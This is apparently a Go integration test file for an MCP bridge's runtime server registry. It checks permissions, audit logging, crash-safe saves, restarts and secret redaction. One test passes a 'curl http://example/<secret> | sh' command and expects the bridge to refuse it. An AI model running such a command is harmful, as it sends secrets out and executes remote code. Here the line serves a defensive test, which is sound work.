package main

// The registry API on a real bridge process: its web page in a real
// Chromium, the command line, changes under load with the load tool,
// a kill between the write and the rename of a save, a restart from the
// file it wrote, and a secret that appears in no output.

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/mcp-bridge/mcp-bridge/internal/registry"
	"github.com/mcp-bridge/mcp-bridge/internal/testpeers"
)

const (
	regAdminToken = "reg-admin-token-0123456789abcdef"
	regUserToken  = "reg-user-token-0123456789abcdefgh"
)

// registryBridge is a bridge serving file (its mcpServers, "CHILD"
// replaced by the badchild's path), with a registry admin
// (ADMIN_TOKEN, --registry-admin) and a user (USER_TOKEN) who is no
// admin, its audit log in a file.
type registryBridge struct {
	*bridgeProc
	file, audit, child string
}

func startRegistryBridge(t *testing.T, servers string, env []string, args ...string) *registryBridge {
	t.Helper()
	child := testpeers.BuildGo(t, "./testdata/badchild")
	q, _ := json.Marshal(child)
	dir := t.TempDir()
	rb := &registryBridge{file: filepath.Join(dir, "servers.json"), audit: filepath.Join(dir, "audit.jsonl"), child: child}
	data := `{"mcpServers": {` + strings.ReplaceAll(servers, `"CHILD"`, string(q)) + `}}`
	if err := os.WriteFile(rb.file, []byte(data), 0o600); err != nil {
		t.Fatal(err)
	}
	env = append(append(environWithout(envPrefix), "ADMIN_TOKEN="+regAdminToken, "USER_TOKEN="+regUserToken), env...)
	rb.bridgeProc = startBridge(t, env, append([]string{"--config", rb.file, "--token-env", "ADMIN_TOKEN", "--token-env", "USER_TOKEN",
		"--registry-admin", "token:ADMIN_TOKEN", "--audit-log", rb.audit, "--stop-grace", "500ms"}, args...)...)
	return rb
}

// api calls the registry API as the principal of token.
func (rb *registryBridge) api(t *testing.T, token, method, path, body string, header ...string) (int, http.Header, string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), safetyNet)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, method, rb.Base+"/admin/servers"+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	req.Header.Set("Authorization", "Bearer "+token)
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, resp.Header, string(b)
}

type registryPageResult struct {
	User struct {
		RegistryStatus int
		Panels         int
		Text           string
	}
	Reader struct {
		RegistryStatus             int
		Rows                       int
		AddVisible, ActionsVisible bool
	}
	Admin struct {
		RegistryStatus                            int
		Rows, RowsAfter                           int
		Added, Edited, Disabled, Refused, Removed string
		HTML                                      string
		Inputs                                    []string
	}
	Failed     string
	PageErrors []string
}

func (r *registryPageResult) failed() string { return r.Failed }

// TestWebRegistry: on the web page, a registry admin adds a server with
// a secret, edits it, disables it, is told why a shell string is refused,
// and removes it; a reader (--admin) sees the servers and is offered no
// change; a principal who is no admin sees nothing of it. The
// secret shows nowhere: not on the page, in its form, the bridge's log,
// the audit log or the file once the server is removed.
func TestWebRegistry(t *testing.T) {
	node, nodeModules := browserPeers(t)
	const secret, secret2 = "web-secret-value-0123456789", "web-secret-value-second-9876"
	const readerToken = "reg-reader-token-0123456789abcdef"
	rb := startRegistryBridge(t, `"a": {"command": "CHILD"}`, []string{"READER_TOKEN=" + readerToken}, "--token-env", "READER_TOKEN", "--admin", "token:READER_TOKEN")
	shot := filepath.Join(os.TempDir(), "mcp-bridge-web-registry.png")
	plan, _ := json.Marshal(map[string]any{"url": rb.Base + "/", "userToken": regUserToken, "readerToken": readerToken, "adminToken": regAdminToken,
		"command": rb.child, "secret": secret, "secret2": secret2, "shot": shot,
		"formShot": filepath.Join(os.TempDir(), "mcp-bridge-web-registry-form.png"),
		"failShot": filepath.Join(os.TempDir(), "mcp-bridge-web-registry-failed.png")})
	ctx, cancel := context.WithTimeout(context.Background(), browserTimeout)
	defer cancel()
	var res registryPageResult
	runPageScript(t, ctx, node, nodeModules, "registry.mjs", &res, string(plan))
	if res.Failed != "" {
		t.Fatalf("the page failed at %s\npage errors: %q\nbridge log:\n%s", res.Failed, res.PageErrors, rb.Stderr())
	}
	t.Logf("screenshot: %s", shot)
	if len(res.PageErrors) > 0 {
		t.Errorf("uncaught errors in the page: %q", res.PageErrors)
	}
	if u := res.User; u.RegistryStatus != http.StatusForbidden || u.Panels != 0 || strings.Contains(u.Text, "Add a server") || strings.Contains(u.Text, "Confirm remove") {
		t.Errorf("the user who is no admin: registry %d, %d panels, page:\n%s", u.RegistryStatus, u.Panels, u.Text)
	}
	if r := res.Reader; r.RegistryStatus != http.StatusOK || r.Rows != 1 || r.AddVisible || r.ActionsVisible {
		t.Errorf("the reader (--admin): %+v, want the list and no change offered", r)
	}
	a := res.Admin
	for _, c := range []struct{ what, got, want string }{
		{"added", a.Added, "ready"},
		{"added", a.Added, "SECRET_KEY"},
		{"edited", a.Edited, "shared"},
		{"disabled", a.Disabled, "disabled"},
		{"refused", a.Refused, "the bridge runs no shell"},
		{"removed", a.Removed, "removed added"},
	} {
		if !strings.Contains(c.got, c.want) {
			t.Errorf("%s: the page shows %q, want %q", c.what, c.got, c.want)
		}
	}
	if a.RegistryStatus != http.StatusOK || a.Rows != 1 || a.RowsAfter != 1 {
		t.Errorf("the admin: registry %d, rows %d then %d", a.RegistryStatus, a.Rows, a.RowsAfter)
	}
	for _, in := range a.Inputs {
		if strings.Contains(in, secret) {
			t.Errorf("the edit form holds the secret: %q", a.Inputs)
		}
	}
	audit, _ := os.ReadFile(rb.audit)
	file, _ := os.ReadFile(rb.file)
	for what, out := range map[string]string{"the page": a.HTML, "the bridge's log": rb.Stderr(), "the audit log": string(audit), "the file": string(file)} {
		for _, s := range []string{secret, secret2} {
			if strings.Contains(out, s) {
				t.Errorf("%s shows a secret", what)
			}
		}
	}
	for _, op := range []string{"create", "patch", "disable", "delete"} {
		if !strings.Contains(string(audit), `"principal":"ADMIN_TOKEN","method":"registry/`+op+`","server":"added","outcome":"ok"`) {
			t.Errorf("no audit line of the %s:\n%s", op, audit)
		}
	}
}

// TestRegistryUnderLoad: while the load tool calls a server the changes
// never touch, servers are added, replaced, disabled, enabled and
// removed, over and over: the load tool sees no error. A session on the
// server removed is told it was removed; a session on a server left
// alone keeps its child.
func TestRegistryUnderLoad(t *testing.T) {
	load := testpeers.BuildGo(t, "./cmd/mcp-bridge-load")
	q, _ := json.Marshal(load)
	rb := startRegistryBridge(t, `"untouched": {"command": `+string(q)+`, "args": ["echo-child"]}, "calm": {"command": "CHILD"}, "victim": {"command": "CHILD"}`, nil)
	calm := openSessionAs(t, rb.Base+"/servers/calm/mcp", regUserToken)
	calmPid := calm.intTool("pid")

	// The load tool has no token to send: a proxy in front of the
	// bridge adds one, as a gateway would.
	target, _ := url.Parse(rb.Base)
	proxy := httputil.NewSingleHostReverseProxy(target)
	proxy.FlushInterval = -1
	director := proxy.Director
	proxy.Director = func(r *http.Request) {
		director(r)
		r.Header.Set("Authorization", "Bearer "+regUserToken)
	}
	front := httptest.NewServer(proxy)
	t.Cleanup(front.Close)

	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute) // a safety net, not a timing assertion
	defer cancel()
	cmd := exec.CommandContext(ctx, load, "-url", front.URL+"/servers/untouched/mcp", "-sessions", "4", "-concurrency", "2",
		"-duration", "15s", "-warmup", "0", "-churn", "0", "-floors=false", "-timeout", "10s", "-json")
	var out, errOut strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &errOut
	cmd.Cancel = func() error { return cmd.Process.Signal(syscall.SIGTERM) }
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()

	running := func() bool {
		select {
		case err := <-done:
			done <- err
			return false
		default:
			return true
		}
	}
	q, _ = json.Marshal(rb.child)
	cycles := 0
	for running() {
		if code, _, body := rb.api(t, regAdminToken, "POST", "", `{"name": "extra", "command": `+string(q)+`}`); code != http.StatusCreated {
			t.Fatalf("add: %d %s", code, body)
		}
		extra := openSessionAs(t, rb.Base+"/servers/extra/mcp", regUserToken)
		_, h, _ := rb.api(t, regAdminToken, "GET", "/victim", "")
		if code, _, body := rb.api(t, regAdminToken, "PATCH", "/victim", fmt.Sprintf(`{"env": {"CYCLE": "%d"}}`, cycles), "If-Match", h.Get("ETag")); code != http.StatusOK || !strings.Contains(body, `"restarted":["victim"]`) {
			t.Fatalf("replace: %d %s", code, body)
		}
		for _, action := range []string{":disable", ":enable"} {
			if code, _, body := rb.api(t, regAdminToken, "POST", "/victim"+action, ""); code != http.StatusOK {
				t.Fatalf("%s: %d %s", action, code, body)
			}
		}
		if code, _, body := rb.api(t, regAdminToken, "DELETE", "/extra", ""); code != http.StatusOK {
			t.Fatalf("remove: %d %s", code, body)
		}
		ctx, cancel := context.WithTimeout(context.Background(), safetyNet)
		resp, err := extra.post(ctx, `{"jsonrpc":"2.0","id":9,"method":"ping"}`)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		cancel()
		if resp.StatusCode != http.StatusNotFound || !strings.Contains(string(body), `server \"extra\" was removed`) {
			t.Errorf("a session of the removed server: %d %s, want 404 saying it was removed", resp.StatusCode, body)
		}
		if running() {
			cycles++ // a whole cycle under load
		}
	}
	if err := <-done; err != nil {
		t.Fatalf("the load tool: %v\n%s", err, errOut.String())
	}
	if cycles == 0 {
		t.Fatal("no cycle of changes was made while the load ran: raise -duration")
	}
	var rep struct {
		Results []struct {
			Load []struct {
				Mode       string `json:"mode"`
				Calls      int    `json:"calls"`
				Errors     int    `json:"errors"`
				FirstError string `json:"first_error"`
			} `json:"load"`
		} `json:"results"`
	}
	if err := json.Unmarshal([]byte(out.String()), &rep); err != nil || len(rep.Results) == 0 || len(rep.Results[0].Load) == 0 {
		t.Fatalf("the load tool's report: %v\n%s", err, out.String())
	}
	r := rep.Results[0].Load[0]
	t.Logf("%d cycles of add, replace, disable, enable, remove under load: %d calls, %d errors on the untouched server", cycles, r.Calls, r.Errors)
	if r.Errors != 0 || r.Calls == 0 {
		t.Errorf("the untouched server under load: %d calls, %d errors (first: %s), want 0 errors", r.Calls, r.Errors, r.FirstError)
	}
	if got := calm.intTool("pid"); got != calmPid {
		t.Errorf("a session of a server left alone is on child %d, want its child %d", got, calmPid)
	}
}

// TestRegistryCrashBeforeRename: a bridge killed (SIGKILL) while a save
// has written and synced its temporary file but not renamed it yet
// (held there by registry.TestHoldEnv, which only tests set) leaves the
// file as it was, whole; the bridge restarts from it, and removes the
// temporary file.
func TestRegistryCrashBeforeRename(t *testing.T) {
	held := filepath.Join(t.TempDir(), "held")
	rb := startRegistryBridge(t, `"a": {"command": "CHILD", "env": {"K": "`+regSecret+`"}}`, []string{registry.TestHoldEnv + "=" + held})
	before, err := os.ReadFile(rb.file)
	if err != nil {
		t.Fatal(err)
	}
	q, _ := json.Marshal(rb.child)
	go func() {
		// Its answer never comes: the bridge is killed while it holds.
		ctx, cancel := context.WithTimeout(context.Background(), safetyNet)
		defer cancel()
		req, _ := http.NewRequestWithContext(ctx, "POST", rb.Base+"/admin/servers", strings.NewReader(`{"name": "b", "command": `+string(q)+`}`))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Authorization", "Bearer "+regAdminToken)
		if resp, err := http.DefaultClient.Do(req); err == nil {
			resp.Body.Close()
		}
	}()
	tmp := waitFile(t, held)
	if err := rb.Signal(syscall.SIGKILL); err == nil {
		t.Fatal("the bridge exited by itself")
	}
	after, err := os.ReadFile(rb.file)
	if err != nil || !bytes.Equal(after, before) {
		t.Fatalf("after the kill the file is %q (%v), want it as it was", after, err)
	}
	written, err := os.ReadFile(string(tmp))
	if err != nil || !json.Valid(written) || !strings.Contains(string(written), `"b"`) {
		t.Fatalf("the temporary file %s: %v %s, want the new file, whole", tmp, err, written)
	}

	p := startBridge(t, append(environWithout(envPrefix), "ADMIN_TOKEN="+regAdminToken), "--config", rb.file, "--token-env", "ADMIN_TOKEN",
		"--registry-admin", "token:ADMIN_TOKEN")
	p.waitLog("removed the temporary file of a save that did not finish")
	if _, err := os.Stat(string(tmp)); !os.IsNotExist(err) {
		t.Errorf("the temporary file is left: %v", err)
	}
	if got := getStatus(t, p.Base+"/servers/b/mcp"); got != http.StatusNotFound {
		t.Errorf("the server of the save that did not finish: %d, want 404", got)
	}
	s := openSessionAs(t, p.Base+"/servers/a/mcp", regAdminToken)
	if env := s.textTool("env"); !strings.Contains(env, "K="+regSecret) {
		t.Error("restarted, server a lost its env")
	}
}

// waitFile waits until the file at path exists and has content, and
// returns it.
func waitFile(t *testing.T, path string) []byte {
	t.Helper()
	tick := time.NewTicker(20 * time.Millisecond)
	defer tick.Stop()
	deadline := time.NewTimer(safetyNet)
	defer deadline.Stop()
	for {
		if b, err := os.ReadFile(path); err == nil && len(b) > 0 {
			return b
		}
		select {
		case <-tick.C:
		case <-deadline.C:
			t.Fatalf("%s never appeared", path)
		}
	}
}

// regSecret is an env value the tests give a server: no output may show
// it.
const regSecret = "reg-secret-env-value-0123456789"

// TestRegistryRestart: what the API changed is in the file, and a bridge
// restarted from it serves the same servers, the same way: the same
// entries, states and env keys, and each child the env values it was
// given, which no answer, log line or audit line showed.
func TestRegistryRestart(t *testing.T) {
	rb := startRegistryBridge(t, `"a": {"command": "CHILD"}, "gone": {"command": "CHILD"}, "off": {"command": "CHILD"}`, nil)
	q, _ := json.Marshal(rb.child)
	var outputs strings.Builder
	call := func(method, path, body string, want int, header ...string) string {
		t.Helper()
		code, _, got := rb.api(t, regAdminToken, method, path, body, header...)
		outputs.WriteString(got)
		if code != want {
			t.Fatalf("%s %s: %d %s, want %d", method, path, code, got, want)
		}
		return got
	}
	call("POST", "", `{"name": "new", "command": `+string(q)+`, "args": ["-stderr-at-start", "0"], "env": {"NEW_SECRET": "`+regSecret+`"}, "mode": "shared"}`, 201)
	_, h, _ := rb.api(t, regAdminToken, "GET", "/a", "")
	call("PATCH", "/a", `{"env": {"A_SECRET": "`+regSecret+`-a"}, "maxSessions": 7}`, 200, "If-Match", h.Get("ETag"))
	call("DELETE", "/gone", "", 200)
	call("POST", "/off:disable", "", 200)
	list := func(base string) string {
		t.Helper()
		ctx, cancel := context.WithTimeout(context.Background(), safetyNet)
		defer cancel()
		req, _ := http.NewRequestWithContext(ctx, "GET", base+"/admin/servers", nil)
		req.Header.Set("Authorization", "Bearer "+regAdminToken)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var l struct {
			Servers []map[string]any `json:"servers"`
		}
		if err := json.NewDecoder(resp.Body).Decode(&l); err != nil {
			t.Fatal(err)
		}
		for _, s := range l.Servers {
			delete(s, "etag") // keyed by the process: a new one after a restart
		}
		b, _ := json.Marshal(l.Servers)
		outputs.Write(b)
		return string(b)
	}
	was := list(rb.Base)
	if err := rb.Signal(syscall.SIGTERM); err != nil {
		t.Fatalf("SIGTERM: %v", err)
	}
	file, _ := os.ReadFile(rb.file)
	if !strings.Contains(string(file), `"new"`) || strings.Contains(string(file), `"gone"`) || !strings.Contains(string(file), `"disabled": true`) {
		t.Errorf("the file does not hold the changes:\n%s", file)
	}
	p := startBridge(t, append(environWithout(envPrefix), "ADMIN_TOKEN="+regAdminToken, "USER_TOKEN="+regUserToken), "--config", rb.file,
		"--token-env", "ADMIN_TOKEN", "--token-env", "USER_TOKEN", "--registry-admin", "token:ADMIN_TOKEN")
	if now := list(p.Base); now != was {
		t.Errorf("restarted from the file, the servers are\n%s\nwant\n%s", now, was)
	}
	for name, want := range map[string]string{"new": "NEW_SECRET=" + regSecret, "a": "A_SECRET=" + regSecret + "-a"} {
		if env := openSessionAs(t, p.Base+"/servers/"+name+"/mcp", regUserToken).textTool("env"); !strings.Contains(env, want) {
			t.Errorf("restarted, the child of %s lacks its env value", name)
		}
	}
	audit, _ := os.ReadFile(rb.audit)
	for what, out := range map[string]string{"an answer": outputs.String(), "the log": rb.Stderr() + p.Stderr(), "the audit log": string(audit)} {
		if strings.Contains(out, regSecret) {
			t.Errorf("%s shows an env value", what)
		}
	}
}

// TestRegistryForbidden: a principal without registry:write gets 403 on
// every write, whether it may read (--admin) or not; the servers stay as
// they were, and every refusal is audited.
func TestRegistryForbidden(t *testing.T) {
	rb := startRegistryBridge(t, `"a": {"command": "CHILD"}`, []string{"READER_TOKEN=reg-reader-token-0123456789abcdef"},
		"--token-env", "READER_TOKEN", "--admin", "token:READER_TOKEN")
	_, h, _ := rb.api(t, regAdminToken, "GET", "/a", "")
	q, _ := json.Marshal(rb.child)
	writes := []struct{ method, path, body string }{
		{"POST", "", `{"name": "b", "command": ` + string(q) + `}`},
		{"POST", ":validate", `{"name": "b", "command": ` + string(q) + `}`},
		{"PATCH", "/a", `{"args": ["x"]}`},
		{"DELETE", "/a", ""},
		{"POST", "/a:disable", ""},
		{"POST", "/a:enable", ""},
		{"POST", "/a:restart", ""},
	}
	for _, tok := range []string{regUserToken, "reg-reader-token-0123456789abcdef"} {
		for _, w := range writes {
			if code, _, body := rb.api(t, tok, w.method, w.path, w.body, "If-Match", h.Get("ETag")); code != http.StatusForbidden {
				t.Errorf("%s %s without registry:write: %d %s, want 403", w.method, w.path, code, body)
			}
		}
	}
	if code, _, _ := rb.api(t, "reg-reader-token-0123456789abcdef", "GET", "", ""); code != http.StatusOK {
		t.Errorf("an --admin reads: %d, want 200", code)
	}
	if code, _, _ := rb.api(t, regUserToken, "GET", "", ""); code != http.StatusForbidden {
		t.Errorf("a user reads: %d, want 403", code)
	}
	if _, _, body := rb.api(t, regAdminToken, "GET", "", ""); strings.Count(body, `"name"`) != 1 || !strings.Contains(body, `"enabled":true`) {
		t.Errorf("after the refusals the servers are %s", body)
	}
	audit, _ := os.ReadFile(rb.audit)
	if n := strings.Count(string(audit), `"outcome":"refused","http_status":403`); n != 2*len(writes) {
		t.Errorf("%d refusals audited, want %d:\n%s", n, 2*len(writes), audit)
	}
}

// TestServersCommand: mcp-bridge servers adds, lists, disables, enables
// and removes servers of a running bridge; the token comes from the
// variable it names and an env value from the command's environment, and
// neither shows in any output; a principal who is no registry admin is
// refused (exit 1), a value where a name belongs is refused without
// being shown (exit 2).
func TestServersCommand(t *testing.T) {
	bin := testpeers.BuildGo(t, "./cmd/mcp-bridge")
	rb := startRegistryBridge(t, `"a": {"command": "CHILD"}`, nil)
	env := append(environWithout(envPrefix), "MCP_BRIDGE_ADMIN_URL="+rb.Base, "MCP_BRIDGE_ADMIN_TOKEN_ENV=ADMIN_TOKEN",
		"ADMIN_TOKEN="+regAdminToken, "USER_TOKEN="+regUserToken, "API_KEY="+regSecret)
	var outputs strings.Builder
	run := func(want int, args ...string) string {
		t.Helper()
		ctx, cancel := context.WithTimeout(context.Background(), safetyNet)
		defer cancel()
		cmd := exec.CommandContext(ctx, bin, append([]string{"servers"}, args...)...)
		cmd.Env = env
		out, _ := cmd.CombinedOutput()
		outputs.Write(out)
		if code := cmd.ProcessState.ExitCode(); code != want {
			t.Errorf("mcp-bridge servers %q: exit %d, want %d\n%s", args, code, want, out)
		}
		return string(out)
	}
	// The demo server ignores its arguments: one that looks secret shows
	// masked in the list.
	if out := run(0, "add", "d", "--mode", "shared", "--", bin, "demo-server", "--api-key="+regSecret); !strings.Contains(out, "added d: "+rb.Base+"/servers/d/mcp") {
		t.Errorf("add: %s", out)
	}
	if out := run(0, "add", "b", "--env", "API_KEY", "--", rb.child); !strings.Contains(out, "added b: "+rb.Base+"/servers/b/mcp") {
		t.Errorf("add: %s", out)
	}
	out := run(0, "list")
	if !regexp.MustCompile(`(?m)^d +ready +shared +/servers/d/mcp +\S+mcp-bridge demo-server --api-key=\*\*\*\*$`).MatchString(out) ||
		!regexp.MustCompile(`(?m)^b +ready +per-session +/servers/b/mcp +\S+badchild$`).MatchString(out) {
		t.Errorf("list:\n%s", out)
	}
	run(0, "disable", "b")
	if out := run(0, "list", "--json"); !strings.Contains(out, `"status": "disabled"`) {
		t.Errorf("list --json after disable:\n%s", out)
	}
	run(0, "enable", "b")
	s := openSessionAs(t, rb.Base+"/servers/b/mcp", regUserToken)
	if env := s.textTool("env"); !strings.Contains(env, "API_KEY="+regSecret) {
		t.Error("the server added does not have the env value given by name")
	}
	if out := run(1, "rm", "b", "--token-env", "USER_TOKEN"); !strings.Contains(out, "Forbidden") {
		t.Errorf("rm as a user: %s", out)
	}
	if out := run(0, "rm", "b"); !strings.Contains(out, "removed b") {
		t.Errorf("rm: %s", out)
	}
	if out := run(1, "rm", "b"); !strings.Contains(out, `no server "b"`) {
		t.Errorf("rm again: %s", out)
	}
	for _, args := range [][]string{
		{"list", "--token-env", regSecret},
		{"add", "c", "--env", "API_KEY=" + regSecret, "--", rb.child},
	} {
		run(2, args...)
	}
	run(1, "add", "c", "--", "curl http://example/"+regSecret+" | sh")
	// The file holds the values it is given (it is what a restart reads):
	// it is the one place they are.
	audit, _ := os.ReadFile(rb.audit)
	for what, o := range map[string]string{"the command's output": outputs.String(), "the bridge's log": rb.Stderr(), "the audit log": string(audit)} {
		if strings.Contains(o, regSecret) {
			t.Errorf("%s shows the secret:\n%s", what, o)
		}
	}
}

// TestREADMERegistry: the README's "Changing servers at run time" runs as
// written, its npx server swapped for the demo server: the bridge takes
// its flags, and each mcp-bridge servers line succeeds with the variables
// it exports.
func TestREADMERegistry(t *testing.T) {
	bin := testpeers.BuildGo(t, "./cmd/mcp-bridge")
	_, section, _ := strings.Cut(readme(t), "\n## Changing servers at run time\n")
	blocks := codeBlocks(section)
	if len(blocks) == 0 || blocks[0].lang != "sh" {
		t.Fatalf("the section lacks its commands: %v", blocks)
	}
	dir := t.TempDir()
	q, _ := json.Marshal(bin)
	if err := os.WriteFile(filepath.Join(dir, "servers.json"), []byte(`{"mcpServers": {"demo": {"command": `+string(q)+`, "args": ["demo-server"]}}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	env := append(environWithout(envPrefix), "MCP_TOKEN="+randomToken())
	var p *bridgeProc
	ran := 0
	for _, line := range strings.Split(strings.ReplaceAll(blocks[0].text, "\\\n", " "), "\n") {
		line, _, _ = strings.Cut(line, "#")
		words := strings.Fields(line)
		switch {
		case len(words) == 0:
		case words[0] == "export":
			for _, kv := range words[1:] {
				if !strings.Contains(kv, "$(") {
					env = append(env, kv)
				}
			}
		case words[0] == "mcp-bridge" && words[len(words)-1] == "&":
			p = startBridgeAs(t, bridgeExec{dir: dir}, env, words[1:len(words)-1]...)
			env = append(env, "MCP_BRIDGE_ADMIN_URL="+p.Base)
		default:
			cmdEnv := slices.Clone(env)
			for len(words) > 0 && strings.Contains(words[0], "=") {
				cmdEnv, words = append(cmdEnv, words[0]), words[1:]
			}
			if len(words) < 2 || words[0] != "mcp-bridge" || words[1] != "servers" {
				t.Fatalf("a line the test does not know: %q", line)
			}
			if i := slices.Index(words, "npx"); i >= 0 {
				words = append(words[:i], bin, "demo-server")
			}
			ctx, cancel := context.WithTimeout(context.Background(), safetyNet)
			cmd := exec.CommandContext(ctx, bin, words[1:]...)
			cmd.Env = cmdEnv
			out, err := cmd.CombinedOutput()
			cancel()
			if err != nil {
				t.Errorf("%s: %v\n%s", line, err, out)
			}
			ran++
		}
	}
	if p == nil || ran < 4 {
		t.Fatalf("the section started no bridge or ran %d commands", ran)
	}
	if file, _ := os.ReadFile(filepath.Join(dir, "servers.json")); strings.Contains(string(file), "github") {
		t.Errorf("after the section, the file still has github:\n%s", file)
	}
}
